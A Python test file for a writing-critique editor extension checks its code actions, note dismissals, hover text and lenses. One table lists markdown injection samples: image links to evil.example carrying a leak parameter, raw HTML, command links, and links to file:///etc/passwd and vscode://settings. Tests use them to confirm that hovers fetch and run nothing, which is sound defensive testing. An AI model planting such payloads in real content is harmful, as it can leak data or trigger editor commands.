"""Code actions, hover and lenses: where the words are now, cheap, and safe to show."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis.strategies import lists, sampled_from

from copydesk.core.visible import visible
from copydesk.errors import StoreError
from copydesk.lsp.wording import markdown, plain
from harness.editor import NEOVIM, VSCODE, Editor, RefusedRequest
from harness.scripted import MemoryDismissals, ScriptedDesk, services

if TYPE_CHECKING:
    from conftest import Connect
    from harness.editor import Personality

URI, OTHER = "file:///work/post.md", "file:///work/other.md"
TEXT = "# Title\n\nThis is very good. One flaw is here 👩‍🚀.\n\nVery, very well.\n"


async def ready(
    connect: Connect, personality: Personality = VSCODE, dismissals: MemoryDismissals | None = None, text: str = TEXT
) -> Editor:
    """Return an editor that shows the notes of a critiqued document."""
    editor = (await connect(personality, services(ScriptedDesk(), dismissals))).editor
    await editor.initialize()
    editor.open(URI, text)
    await editor.command("copydesk.critiqueDocument", uri=URI)
    await editor.until(lambda: any("Flawed" in message for message in editor.shown(URI) or ()))
    return editor


async def test_actions_of_a_note(connect: Connect, personality: Personality) -> None:
    editor = await ready(connect, personality)
    actions = await editor.actions(URI, "flaw")
    assert list(actions) == [
        "Rewrite: Flawed: One flaw is here 👩‍🚀.",
        "Why this note? (CD104)",
        "Dismiss this note (CD104)",
        "Dismiss CD104 in this document",
        "Dismiss CD104 in this project",
    ]
    assert {action["kind"] for action in actions.values()} == {"quickfix"}
    assert all("edit" not in action for action in actions.values())


async def test_an_editor_without_commands_of_its_own_is_offered_what_can_be_begun(connect: Connect) -> None:
    editor = (await connect(VSCODE, services(ScriptedDesk()))).editor
    await editor.initialize(experimental={"copydesk": {"commands": False}})
    editor.open(URI, TEXT)
    in_text = {"Research the sentence here", "Critique this document"}
    assert set(await editor.actions(URI, "Very, very")) == in_text
    at = editor.position(URI, "itle")
    await editor.until(lambda: editor.shown(URI))
    heading = ["Draft this section", "Research claims in this section", "Critique this document"]
    assert list(await editor.actions(URI, "itle")) == heading
    selection = {"start": at, "end": editor.position(URI, " is very")}
    params = {"textDocument": {"uri": URI}, "range": selection, "context": {"diagnostics": []}}
    found = await editor.request("textDocument/codeAction", params)
    assert [one["title"] for one in found] == ["Critique what is selected", "Research what is selected"]
    assert found[0]["command"]["arguments"] == [{"uri": URI, "range": selection}]

    in_word = {"start": editor.position(URI, "well"), "end": editor.position(URI, "ell.")}
    found = await editor.request("textDocument/codeAction", params | {"range": in_word})
    assert {one["title"] for one in found} == in_text
    params["context"]["only"] = ["quickfix"]
    assert await editor.request("textDocument/codeAction", params) == []
    critique = (await editor.actions(URI, "Very, very"))["Critique this document"]["command"]
    await editor.request("workspace/executeCommand", {key: critique[key] for key in ("command", "arguments")})
    await editor.until(lambda: any("Flawed" in message for message in editor.shown(URI) or ()))
    actions = list(await editor.actions(URI, "flaw"))
    assert actions[0].startswith("Rewrite:") and actions[-1] == "Critique this document"


async def test_actions_follow_the_words_and_not_the_client_s_diagnostics(
    connect: Connect, personality: Personality
) -> None:
    editor = await ready(connect, personality)
    (stale,) = [one for one in editor.diagnostics[URI] if one["code"] == "CD104"]
    editor.type(URI, "# Title\n", "# Title 👩‍🚀\r\n\r\nAbove.\u2028\n")
    at = editor.position(URI, "One flaw")
    found = await editor.request(
        "textDocument/codeAction",
        {"textDocument": {"uri": URI}, "range": {"start": at, "end": at}, "context": {"diagnostics": [stale]}},
    )
    assert {action["diagnostics"][0]["data"]["id"] for action in found} == {stale["data"]["id"]}
    assert await editor.actions(URI, "Above") == {}


@pytest.mark.parametrize(("only", "some"), [(["quickfix"], True), ([""], True), (["refactor"], False), ([], False)])
async def test_actions_of_other_kinds_are_not_ours(connect: Connect, only: list[str], some: bool) -> None:
    editor = await ready(connect)
    at = editor.position(URI, "flaw")
    found = await editor.request(
        "textDocument/codeAction",
        {
            "textDocument": {"uri": URI},
            "range": {"start": at, "end": at},
            "context": {"diagnostics": [], "only": only},
        },
    )
    assert bool(found) is some


async def test_dismissing_one_note_leaves_its_like(connect: Connect, personality: Personality) -> None:
    dismissals = MemoryDismissals()
    editor = await ready(connect, personality, dismissals)
    actions = await editor.actions(URI, "very good")
    (arguments,) = actions["Dismiss this note (CD402)"]["command"]["arguments"]
    assert await editor.command("copydesk.dismissNote", **arguments, reason="I mean it") == {"stored": True}
    await editor.notes(URI, "Very is weak.", "Flawed: One flaw is here 👩‍🚀.")
    (kept,) = dismissals.stored
    assert (kept.code, kept.scope, kept.reason) == ("CD402", "note", "I mean it")


@pytest.mark.parametrize(("scope", "elsewhere"), [("document", 1), ("project", 0)])
async def test_dismissing_a_code(connect: Connect, scope: str, elsewhere: int) -> None:
    editor = await ready(connect)
    editor.open(OTHER, "A very short text.\n")
    await editor.notes(OTHER, "Very is weak.")
    note = next(one for one in editor.diagnostics[URI] if one["code"] == "CD402")
    await editor.command("copydesk.dismissNote", noteId=note["data"]["id"], scope=scope)
    await editor.notes(URI, "Flawed: One flaw is here 👩‍🚀.")
    await editor.notes(OTHER, *["Very is weak."] * elsewhere)


async def test_a_dismissal_outlives_the_session_s_document(connect: Connect) -> None:
    editor = await ready(connect)
    note = next(one for one in editor.diagnostics[URI] if one["code"] == "CD402")
    await editor.command("copydesk.dismissNote", noteId=note["data"]["id"], scope="document")
    editor.close(URI)
    editor.open(URI, TEXT)
    await editor.command("copydesk.critiqueDocument", uri=URI)
    await editor.notes(URI, "Flawed: One flaw is here 👩‍🚀.")


@pytest.mark.parametrize("untitled", [True, False])
async def test_a_dismissal_that_cannot_be_stored_still_hides(connect: Connect, untitled: bool) -> None:
    dismissals = MemoryDismissals(problem=StoreError("The project's file cannot be written.", "Free some space."))
    editor = (await connect(VSCODE, services(ScriptedDesk(), dismissals))).editor
    await editor.initialize()
    uri = "untitled:Untitled-1" if untitled else URI
    editor.open(uri, "A very short text.\n")
    (note,) = await editor.notes(uri, "Very is weak.")
    assert await editor.command("copydesk.dismissNote", noteId=note["data"]["id"]) == {"stored": False}
    await editor.notes(uri)
    assert editor.said == ([] if untitled else ["The project's file cannot be written. Free some space."])


async def test_a_note_explains_itself_with_words_of_the_catalogue(connect: Connect) -> None:
    editor = await ready(connect)
    note = next(one for one in editor.diagnostics[URI] if one["code"] == "CD104")
    answer = await editor.command("copydesk.explainNote", noteId=note["data"]["id"])
    assert answer["title"] == "overclaim"
    assert answer["message"] == note["message"]
    assert answer["provenance"] == {
        "agent": "critic",
        "model": "scripted",
        "digest": "d1",
        "promptVersion": "p1",
        "cached": False,
        "confidence": 0.75,
    }
    (said,) = editor.said
    assert said.startswith("CD104: ")
    assert said.endswith("Found by the model, 75 % sure.")
    assert "flaw" not in said


async def test_unknown_notes_are_refused(connect: Connect) -> None:
    editor = await ready(connect)
    for command in ("rewriteNote", "applyNote", "dismissNote", "explainNote"):
        with pytest.raises(RefusedRequest, match="There is no such note in an open document"):
            await editor.command(f"copydesk.{command}", noteId="nothing")


async def hovered(editor: Editor, words: str) -> Any:
    """Return what hovering over some words shows."""
    at = editor.position(URI, words)
    return await editor.request("textDocument/hover", {"textDocument": {"uri": URI}, "position": at})


async def test_hover_tells_message_reason_code_and_origin(connect: Connect, personality: Personality) -> None:
    editor = await ready(connect, personality)
    contents = (await hovered(editor, "flaw"))["contents"]
    assert contents["kind"] == "markdown"
    assert "**Flawed: One flaw is here 👩‍🚀.**" in contents["value"]
    assert "[CD104](https://example.org/codes/CD104)" in contents["value"]
    assert "critic: scripted" in contents["value"]
    assert await hovered(editor, "Title") is None


async def test_hover_in_plain_text_where_the_client_reads_no_markdown(connect: Connect) -> None:
    editor = (await connect(NEOVIM)).editor
    await editor.initialize(textDocument={"hover": {"contentFormat": ["plaintext"]}})
    editor.open(URI, "A very short text.\n")
    await editor.notes(URI, "Very is weak.")
    contents = (await hovered(editor, "very"))["contents"]
    assert contents["kind"] == "plaintext"
    assert contents["value"].startswith("Very is weak.\n")


HOSTILE = {
    "an image": "![flaw](https://evil.example/?leak=1)",
    "a reference image": "flaw ![x][1]\n\n[1]: https://evil.example/y",
    "HTML": "flaw <img src=https://evil.example/x>",
    "a command link": "flaw [x](command:workbench.action.quit)",
    "a file link": "flaw [x](file:///etc/passwd)",
    "another editor link": "flaw [x](vscode://settings)",
    "a fence": "flaw\n```\n![x](https://evil.example)\n",
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
async def test_R27_a_hover_fetches_and_runs_nothing(connect: Connect, source: str) -> None:
    from markdown_it import MarkdownIt

    desk = ScriptedDesk(words=source)
    editor = (await connect(VSCODE, services(desk))).editor
    await editor.initialize()
    editor.open(URI, "One flaw stands in this sentence.\n")
    await editor.command("copydesk.critiqueDocument", uri=URI)
    (note,) = await editor.until(lambda: editor.diagnostics.get(URI))
    await editor.command("copydesk.rewriteNote", noteId=note["data"]["id"])
    await editor.ended(2)
    value = (await hovered(editor, "flaw"))["contents"]["value"]
    html = MarkdownIt("commonmark").render(value + "\n\n" + markdown(source))
    assert re.findall(r"<(?!/?(?:p|strong|a|pre|code|hr)\b)", html) == []
    assert re.findall(r'(?:href|src)="([^"]*)"', html) == ["https://example.org/codes/CD104"]


MARKUP = (
    *"[]()<>*_`|\\#-+=:$! \n",
    *("![", "](", "~~", "&amp;", "//", "www.", "https://a.example", "a@b.example", "command:x", "<img src=x>"),
    *("1.", "2)", "[a]: /x", "--- | ---"),
)


@given(lists(sampled_from(MARKUP), min_size=1).map("".join).filter(str.strip))
def test_R27_text_shown_as_markdown_reads_as_itself(text: str) -> None:
    from markdown_it import MarkdownIt
    from markdown_it.common.utils import escapeHtml

    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    assert parser.render(markdown(text)) == f"<p>{escapeHtml(' '.join(text.split()))}</p>\n"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Built in 1790 (or 1.5 years later): “mill #2”, he said!", None),
        ("see https://a.example", "see https\\://a.example"),
        ("see www.a.example", "see www\\.a.example"),
        ("ask a@b.example", "ask a\\@b.example"),
        ("1790. A year", "1790\\. A year"),
        ("- a dash", "\\- a dash"),
    ],
)
def test_R27_addresses_are_no_links_and_other_words_stay_free_of_backslashes(text: str, shown: str | None) -> None:
    assert markdown(text) == (shown or text)


async def test_lenses_count_notes_on_headings(connect: Connect, personality: Personality) -> None:
    editor = await ready(connect, personality)
    (lens,) = await editor.request("textDocument/codeLens", {"textDocument": {"uri": URI}})
    assert editor.quoted(URI, lens["range"]).startswith("# Title")
    assert lens["command"]["title"] == "3 notes · critique this section"
    (arguments,) = lens["command"]["arguments"]
    assert await editor.command(lens["command"]["command"], **arguments) == {"jobId": "critique-2"}


async def test_lenses_can_be_switched_off(connect: Connect) -> None:
    editor = (await connect()).editor
    editor.settings = {"codeLens": False, "unknown": 1}
    await editor.initialize()
    editor.open(URI, TEXT)
    await editor.until(lambda: editor.said)
    assert await editor.request("textDocument/codeLens", {"textDocument": {"uri": URI}}) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain\ttext\nnext 👩‍🚀 ‌ é", "plain\ttext\nnext 👩‍🚀 ‌ é"),
        ("\x1b[2J\x07\x00", "\\x1b[2J\\x07\\x00"),
        ("a\u202eb\u2066", "a\\u202eb\\u2066"),
        ("\ud83d", "\\ud83d"),
        ("\u2028\x85", "\\u2028\\x85"),
        ("\U000e0041", "\\U000e0041"),
    ],
)
def test_R45_what_cannot_be_seen_is_written_out(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_R28_a_message_box_finds_no_link() -> None:
    assert plain("a [b](command:c)\nd") == "a [b] (command:c) d"
